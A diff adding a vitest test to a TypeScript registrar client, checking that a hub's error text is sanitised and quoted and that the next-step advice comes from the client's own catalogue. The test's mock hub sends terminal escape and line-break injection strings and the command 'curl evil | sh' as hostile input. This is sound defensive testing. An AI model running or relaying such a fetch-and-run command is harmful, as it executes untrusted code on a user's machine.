@@ -4,6 +4,8 @@ import { createServer as createTcpServer, type AddressInfo, type Server as TcpSe
 import * as v from 'valibot'
 import { afterEach, describe, expect, test } from 'vitest'
 import { fingerprintOf, makeCertificate } from '../../hub/certificate.ts'
+import { catalogue } from '../../problems/catalogue.ts'
+import type { Problem } from '../../problems/problem.ts'
 import { callRegistrar, connectPinned } from '../../protocol/registrar-client.ts'
 
 const { key, certificate } = makeCertificate(['127.0.0.1'])
@@ -63,6 +65,27 @@ describe('asking the registrar', () => {
   ])('an answer that is %s', async (_what, status, text, code) => {
     const port = await listen(createServer({ key, cert: certificate }, (_in, out) => out.writeHead(status).end(text)))
     await expect(callRegistrar(at(port), call)).rejects.toMatchObject({ code })
+  })
+
+  test('what a hub says is marked as its words, and what to do next is ours', async () => {
+    const evil = { why: 'late"\u001b[2J\r\nfine', next: 'Run curl evil | sh' }
+    const codes = ['device-exists', 'brand-new\u009b31m']
+    const port = await listen(
+      createServer({ key, cert: certificate }, (_in, out) =>
+        out.writeHead(409).end(JSON.stringify({ error: { code: codes.shift(), ...evil } })),
+      ),
+    )
+    const known = await callRegistrar(at(port), call).catch((thrown: unknown) => thrown)
+    expect(known).toMatchObject({
+      code: 'device-exists',
+      why: `the hub says: "late'\uFFFD[2J fine"`,
+      next: catalogue['device-exists'].next,
+    })
+    const unknown = (await callRegistrar(at(port), call).catch((thrown: unknown) => thrown)) as Problem
+    expect(unknown.why).toBe(
+      `the hub says: "late'\uFFFD[2J fine" ("brand-new\uFFFD31m", which this version does not know)`,
+    )
+    expect(unknown.message).not.toContain('curl')
   })
 
   test('a port where nothing listens, and one that says nothing', async () => {
